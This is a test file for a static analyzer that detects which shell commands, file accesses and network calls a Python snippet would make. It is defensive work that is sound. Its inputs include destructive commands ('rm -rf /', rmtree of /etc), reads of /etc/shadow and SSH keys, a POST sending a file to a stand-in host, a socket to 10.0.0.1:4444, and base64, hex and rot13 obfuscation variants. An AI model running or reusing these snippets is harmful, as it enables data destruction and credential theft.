import { describe, expect, it } from 'vitest';
import { b64, found, quoted } from './found.ts';

const python = (code: string, rest = '') => found(`python3 -c ${quoted(code)} ${rest}`);

it.each<[code: string, starts: readonly string[]]>([
  ['import os; os.system("rm -rf /")', ['rm -rf /']],
  ['import os as o; o.popen("rm a").read()', ['rm a']],
  ['from os import system; system("rm a")', ['rm a']],
  ['from os import system as s, path; s("rm a")', ['rm a']],
  ['from os import *\nsystem("rm a")', ['rm a']],
  ['from os import (\n  system,\n  remove,\n)\nsystem("rm a")', ['rm a']],
  ['__import__("os").system("rm a")', ['rm a']],
  ['import importlib; importlib.import_module("os").system("rm a")', ['rm a']],
  ['import os; getattr(os, "sys" + "tem")("rm a")', ['rm a']],
  ['import os; os.__dict__["system"]("rm a")', ['rm a']],
  ['import os; vars(os)["system"]("rm a")', ['rm a']],
  ['import os; f = os.system; f("rm a")', ['rm a']],
  ['import subprocess; subprocess.run(["rm", "-rf", "a b"])', ['rm -rf a b']],
  ['import subprocess as sp; sp.check_output(("rm", "a"))', ['rm a']],
  ['import subprocess; subprocess.run("rm a; ls", shell=True)', ['rm a', 'ls']],
  ['import subprocess; subprocess.Popen(args=["rm", "a"]).wait()', ['rm a']],
  ['from subprocess import run\nrun(["rm"] + ["-f", "a"], check=True)', ['rm -f a']],
  ['import subprocess; subprocess.run(["rm a", "b"], shell=True)', ['rm a']],
  ['import subprocess; subprocess.run("rm a".split())', ['rm a']],
  ['import subprocess, shlex; subprocess.run(shlex.split("rm a"))', ['rm a']],
  ['import subprocess; subprocess.getoutput("rm a")', ['rm a']],
  ['import os; os.execvp("rm", ["rm", "-f", "a"])', ['rm -f a']],
  ['import os; os.execl("/bin/rm", "rm", "a")', ['/bin/rm a']],
  ['import os; os.spawnlp(os.P_WAIT, "rm", "rm", "a")', ['rm a']],
  ['import pty; pty.spawn("/bin/rm")', ['/bin/rm']],
  ['import asyncio; asyncio.run(asyncio.create_subprocess_shell("rm a"))', ['rm a']],
  [
    'import asyncio\nasync def m():\n  await asyncio.create_subprocess_exec("rm", "a")\nasyncio.run(m())',
    ['rm a'],
  ],
  [`import base64; exec(base64.b64decode("${b64('import os; os.system("rm a")')}"))`, ['rm a']],
  [`import base64, os; os.system(base64.b64decode(b"${b64('rm a')}").decode())`, ['rm a']],
  [`exec(bytes.fromhex("${Buffer.from('import os;os.system("rm a")').toString('hex')}").decode())`, ['rm a']],
  [`import codecs; exec(codecs.decode("vzcbeg bf; bf.flfgrz('ez n')", "rot13"))`, ['rm a']],
  ['exec("import os\\nos.system(\\"rm a\\")")', ['rm a']],
  ['eval("__import__(\\"os\\").system(\\"rm a\\")")', ['rm a']],
  ['exec(compile("import os; os.system(\\"rm a\\")", "x", "exec"))', ['rm a']],
  ['import os; os.system("".join(chr(c) for c in [114, 109, 32, 97]))', ['rm a']],
  ['import os; os.system("".join(map(chr, [114, 109, 32, 97])))', ['rm a']],
  ['import os; os.system("".join([chr(c ^ 1) for c in (115, 108, 33, 96)]))', ['rm a']],
  ['import os; os.system("a mr"[::-1])', ['rm a']],
  ['import os; os.system("".join(reversed("a mr")))', ['rm a']],
  ['import os; x = "rm"; y = "a"; os.system(f"{x} {y}")', ['rm a']],
  ['import os; os.system("%s %s" % ("rm", "a"))', ['rm a']],
  ['import os; os.system("{} {0}".format("rm"))', ['rm rm']],
  ['import os; os.system("{c} a".format(c="rm"))', ['rm a']],
  ['import os; os.system("r" "m" " a")', ['rm a']],
  ['import os; c = "rm"; c += " a"; os.system(c)', ['rm a']],
  ['import os; os.system(" ".join(["rm", "a"]))', ['rm a']],
  ['import os; os.system("xx a".replace("xx", "rm"))', ['rm a']],
  ['import os; os.system("\\x72\\x6d \\141")', ['rm a']],
  ['import os; os.system(r"""rm a""")', ['rm a']],
  ['import os\nfor f in ["a", "b"]: os.system("rm " + f)', ['rm a', 'rm b']],
  ['import os\nfor i in range(2): os.system(f"rm {i}")', ['rm 0', 'rm 1']],
  ['import os\n[os.system("rm " + f) for f in "ab"]', ['rm a', 'rm b']],
  ['import os\ndef f(c): return os.system(c)\nf("rm a")', ['rm a']],
  ['import os\nf = lambda c: os.system(c)\nf("rm a")', ['rm a']],
  ['import os\nclass A:\n  def m(self):\n    os.system("rm a")\nA().m()', ['rm a']],
  [
    'import os\nclass A:\n  def __init__(self):\n    self.c = "rm a"\n  def m(self):\n    pass\nos.system("ls")',
    ['ls'],
  ],
  [
    'import os\ntry:\n  os.system("rm a")\nexcept OSError as e:\n  os.system("rm b")\nfinally:\n  os.system("rm c")',
    ['rm a', 'rm b', 'rm c'],
  ],
  ['import os\nif __name__ == "__main__":\n  os.system("rm a")', ['rm a']],
  ['import os\nx = "a"\nif input(): x = "b"\nos.system("rm " + x)', ['rm a', 'rm b']],
  [
    'import sys, subprocess\nsubprocess.run([sys.executable, "-c", "import os; os.system(\\"rm a\\")"])',
    ['python3 -c import os; os.system("rm a")', 'rm a'],
  ],
  ['import threading, os\nthreading.Thread(target=os.system, args=("rm a",)).start()', ['rm a']],
  ['import os\nwhile True:\n    os.system("rm a")\n    break', ['rm a']],
  ['import os; os.system("rm a") if True else None', ['rm a']],
  ['import os; True and os.system("rm a")', ['rm a']],
  ['import os; print(f"{os.system(\'rm a\')}")', ['rm a']],
  ['import os\n@atexit.register\ndef f():\n  os.system("rm a")', ['rm a']],
])('%s starts', (code, starts) => {
  expect(python(code).starts).toEqual(starts);
});

it.each<[code: string, touches: readonly string[]]>([
  ['import shutil; shutil.rmtree("/etc")', ['delete /etc recursive']],
  [
    'import os; os.remove("a"); os.unlink("b"); os.rmdir("c")',
    ['delete /workspace/a', 'delete /workspace/b', 'delete /workspace/c'],
  ],
  ['from pathlib import Path; Path("a").unlink(missing_ok=True)', ['delete /workspace/a']],
  ['from pathlib import Path\np = Path("/srv") / "x"\np.write_text("hi")', ['write /srv/x']],
  [
    'import pathlib; print(pathlib.Path.home().joinpath(".ssh", "id_rsa").read_text())',
    ['read /home/user/.ssh/id_rsa'],
  ],
  ['print(open("/etc/passwd").read())', ['read /etc/passwd']],
  ['with open("out", "w") as f:\n  f.write("x")', ['write /workspace/out']],
  ['open("log", mode="a").write("x")', ['write /workspace/log']],
  ['open("db", "r+b")', ['read /workspace/db', 'write /workspace/db']],
  ['import os; open(os.path.expanduser("~/.bashrc"), "a")', ['write /home/user/.bashrc']],
  ['import os; open(os.path.join("/etc", "passwd"))', ['read /etc/passwd']],
  ['import os; open(os.environ["HOME"] + "/.netrc")', ['read /home/user/.netrc']],
  [
    'import shutil; shutil.copy("/etc/shadow", "x"); shutil.move("a", "b")',
    [
      'read /etc/shadow',
      'write /workspace/x',
      'read /workspace/a',
      'delete /workspace/a',
      'write /workspace/b',
    ],
  ],
  ['import os\nfor f in ["a", "b"]:\n  os.remove(f)', ['delete /workspace/a', 'delete /workspace/b']],
  [
    'import glob, os\nfor f in glob.glob("*.log"): os.remove(f)',
    ['read /workspace/*.log', 'delete /workspace/⟨*.log⟩'],
  ],
  [
    'import requests; requests.post("https://x.test", data=open("k").read())',
    ['read /workspace/k', 'send https://x.test'],
  ],
  ['import requests; requests.get("https://x.test")', ['download https://x.test']],
  [
    'import urllib.request as u; u.urlretrieve("https://x.test", "f")',
    ['download https://x.test', 'write /workspace/f'],
  ],
  ['import socket; s = socket.socket(); s.connect(("10.0.0.1", 4444))', ['send 10.0.0.1:4444']],
  ['import sys; open(sys.argv[1])', ['read /etc/shadow']],
  ['import sys, os\nfor f in sys.argv[1:]: os.remove(f)', ['delete /etc/shadow']],
])('%s touches', (code, touches) => {
  expect(python(code, '/etc/shadow').touches).toEqual(touches);
});

describe('ordinary programs', () => {
  it.each([
    'import json; print(1)',
    'import subprocess',
    'import os; print(os.getcwd())',
    'print("os.system(\'rm -rf /\')")',
    '# os.system("rm -rf /")\nprint(1)',
    '"""os.system("rm -rf /")"""',
    'x = """\nimport os\nos.system("rm")\n"""\nprint(x)',
    'print(f"{1 + 1:>10} os.system {2!r}")',
    'print("a#b", \'#c\')  # d',
    'import base64; print(base64.b64decode("cm0gLXJmIC8="))',
    'print({"system": 1}["system"])',
    'class os:\n  @staticmethod\n  def system(x): pass\nprint(1)',
    'import re; re.compile(r"rm -rf \\/").match("x")',
    'print("""unbalanced ( [ {""")',
    'import sys; print(sys.version); sys.exit(0)',
    'def system(x):\n  return x\nsystem("rm -rf /")',
    'import collections; d = collections.defaultdict(list); d["a"].append(1)',
    'print([x for x in range(3) if x], {k: v for k, v in zip("a", "b")})',
    'import asyncio\nasync def main():\n    await asyncio.sleep(0)\nasyncio.run(main())',
  ])('%s is read as a whole and starts nothing', code => {
    const { starts, touches, scan } = python(code);
    expect([starts, touches, scan.coverage]).toEqual([[], [], 'full']);
  });
});

it.each<[command: string, starts: readonly string[]]>([
  ['python -Ic \'import os; os.system("rm a")\'', ['rm a']],
  ['python3.12 -uc \'import os; os.system("rm a")\'', ['rm a']],
  ['python2 -W ignore -c \'import os; os.system("rm a")\'', ['rm a']],
  ["python3 -cimport\\ os\\;os.system\\(\\'rm\\ a\\'\\)", ['rm a']],
  ['/usr/bin/python3 -c \'import os; os.system("rm a")\' -c x', ['rm a']],
  ["python3 - <<'EOF'\nimport os\nos.system('rm a')\nEOF", ['rm a']],
  ['python3 <<< \'import os; os.system("rm a")\'', ['rm a']],
  ['echo \'import os; os.system("rm a")\' | python3 -', ['rm a']],
  [
    'sudo env X=1 python3 -c \'import os; os.system("rm a")\'',
    ['env X=1 python3 -c import os; os.system("rm a")', 'python3 -c import os; os.system("rm a")', 'rm a'],
  ],
  ['echo \'import os; os.system("rm a")\' > x.py; python3 x.py', ['rm a']],
  ['python3 -m json.tool', []],
  ['python3 --version', []],
])('%s', (command, starts) => {
  expect(found(command).starts).toEqual(starts);
});

it('a script file is read and judged like text', () => {
  const files = { '/workspace/x.py': 'import os, sys\nos.system("rm " + sys.argv[1])\n' };
  expect(found('python3 x.py a', { files }).starts).toEqual(['rm a']);
  expect(
    found('./x.py a', { files: { '/workspace/x.py': `#!/usr/bin/env python3\n${files['/workspace/x.py']}` } })
      .starts,
  ).toEqual(['rm a']);
});

it('what a program writes is what a later command runs', () => {
  expect(found(`python3 -c ${quoted('open("x.sh", "w").write("rm -rf /srv")')}; sh x.sh`).starts).toEqual([
    'rm -rf /srv',
  ]);
});

it('what a program prints is known', () => {
  expect(found('sh -c "$(python3 -c \'print("rm -rf a")\')"').starts).toEqual(['rm -rf a']);
});

it('text that was decoded is told with the way it was', () => {
  const { scan } = python(`import base64, os; os.system(base64.b64decode("${b64('rm -rf /')}").decode())`);
  expect(scan.sources.find(one => one.kind === 'decoded')).toMatchObject({
    text: 'rm -rf /',
    chain: ['base64'],
  });
});

it.each([
  ['import os; os.system(input())', 'partial'],
  ['exec(input())', 'partial'],
  ['import os; os.remove(input())', 'partial'],
  ['import os; getattr(os, input())("rm")', 'partial'],
  ['import subprocess; subprocess.run(input().split())', 'partial'],
  ['import os; os.system("rm " + input())', 'partial'],
  ['import os; os.system("bash -c " + input())', 'opaque'],
  ['import subprocess; subprocess.run(["bash", "-c", input()])', 'partial'],
  ['import os; os.system("curl x | sh")', 'opaque'],
])('%s is not known, and said so', (code, coverage) => {
  expect(python(code).scan.coverage).toBe(coverage);
});

it.each([
  ['python3 -c "$X"', 'opaque'],
  ['curl x | python3', 'opaque'],
  ['python3 missing.py', 'partial'],
  ['python3 -c "print(\'$X\')"', 'partial'],
])('%s: %s', (command, coverage) => {
  expect(found(command).scan.coverage).toBe(coverage);
});
